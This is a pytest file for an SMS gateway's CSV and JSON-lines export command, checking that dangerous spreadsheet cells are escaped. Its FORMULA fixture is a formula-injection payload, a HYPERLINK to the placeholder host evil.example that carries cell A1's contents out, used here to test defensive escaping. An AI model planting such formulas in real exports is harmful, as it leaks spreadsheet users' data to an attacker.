"""`smsgw export`: CSV safe for spreadsheets, JSON lines as stored, filters, streaming."""

from __future__ import annotations

import asyncio
import csv
import datetime
import io
import json
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from smsgw.cli.export import COLUMNS, spreadsheet_safe
from smsgw.cli.main import app
from smsgw.config import RetentionSection
from smsgw.gateway.retention import Retention
from smsgw.store import open_database, upgrade
from tests.store_helpers import FakeClock, outgoing, receive

pytestmark = [pytest.mark.timeout(60), pytest.mark.usefixtures("clean_env")]

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _config(tmp_path: Path) -> Path:
    path = tmp_path / "smsgw.toml"
    path.write_text(
        f'[database]\nurl = "sqlite:///{tmp_path / "smsgw.db"}"\n[api]\ndefault_region = "RO"\n',
        encoding="utf-8",
    )
    return path


def _fill(tmp_path: Path, clock: FakeClock) -> None:
    async def fill() -> None:
        url = f"sqlite:///{tmp_path / 'smsgw.db'}"
        await upgrade(url)
        db = open_database(url, clock=clock)
        try:
            await receive(db, sender="+40721000001", text=FORMULA)
            clock.advance(days=10)
            await outgoing(db, "-5 degrees\nline two", "+40721000002")
            await receive(db, sender="+40721000001", text="@home, plain")
        finally:
            await db.close()

    asyncio.run(fill())


def test_csv_is_safe_for_spreadsheets_and_jsonl_keeps_the_text(tmp_path: Path) -> None:
    clock = FakeClock()
    _fill(tmp_path, clock)
    config = _config(tmp_path)

    result = runner.invoke(app, ["export", "--format", "csv", "-c", str(config)])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["text"] for row in rows] == [
        "'" + FORMULA,
        "'-5 degrees\nline two",
        "'@home, plain",
    ]
    assert [row["direction"] for row in rows] == ["in", "out", "in"]
    assert rows[0]["peer"] == "'+40721000001"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())

    out = tmp_path / "history.jsonl"
    result = runner.invoke(
        app, ["export", "--format", "jsonl", "--output", str(out), "-c", str(config)]
    )
    assert result.exit_code == 0, result.stderr
    assert "3 message(s) written" in result.stderr
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [line["text"] for line in lines] == [FORMULA, "-5 degrees\nline two", "@home, plain"]
    assert lines[0]["peer"] == "+40721000001"

    since = (clock.now - datetime.timedelta(days=1)).date().isoformat()
    result = runner.invoke(
        app, ["export", "--format", "jsonl", "--since", since, "--peer", "0721000001",
              "-c", str(config)],
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert [json.loads(line)["text"] for line in result.stdout.splitlines()] == ["@home, plain"]


def test_an_empty_export_still_has_its_header(tmp_path: Path) -> None:
    _fill(tmp_path, FakeClock())
    result = runner.invoke(
        app,
        ["export", "--format", "csv", "--peer", "+40729999999", "-c", str(_config(tmp_path))],
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == [",".join(COLUMNS)]


def test_the_columns_are_the_fields_of_messages_json(tmp_path: Path) -> None:
    clock = FakeClock()
    _fill(tmp_path, clock)
    result = runner.invoke(
        app, ["messages", "--json", "--limit", "1", "-c", str(_config(tmp_path))]
    )
    assert result.exit_code == 0, result.stderr
    assert tuple(json.loads(result.stdout)[0]) == COLUMNS


def test_bad_since_is_a_usage_error(tmp_path: Path) -> None:
    result = runner.invoke(
        app, ["export", "--format", "csv", "--since", "yesterday", "-c", str(_config(tmp_path))]
    )
    assert result.exit_code == 2
    assert "--since" in result.stderr


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+40721", "'+40721"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("plain", "plain"),
        (None, ""),
        (True, "true"),
        ([2, 3], "2,3"),
        (5, "5"),
    ],
)
def test_spreadsheet_safe(value: object, cell: str) -> None:
    assert spreadsheet_safe(value) == cell


def test_the_daemon_loop_prunes_in_batches(tmp_path: Path) -> None:
    """`Retention.prune_once` empties the backlog batch by batch, pausing in between."""
    clock = FakeClock()

    async def scenario() -> tuple[int, int]:
        url = f"sqlite:///{tmp_path / 'smsgw.db'}"
        await upgrade(url)
        db = open_database(url, clock=clock)
        try:
            for n in range(7):
                await outgoing(db, f"old {n}", "+40721000002")
            # Sent long ago: only queued ones are kept. Mark them failed through SQL.
            async with db.transaction("test: finish") as connection:
                await connection.execute(sa.text("UPDATE messages SET status = 'failed'"))
            clock.advance(days=2)
            settings = RetentionSection.model_validate({"messages": "1d", "events": "0"})
            return await Retention(db, settings, batch=3, pause=0).prune_once()
        finally:
            await db.close()

    assert asyncio.run(scenario()) == (7, 0)
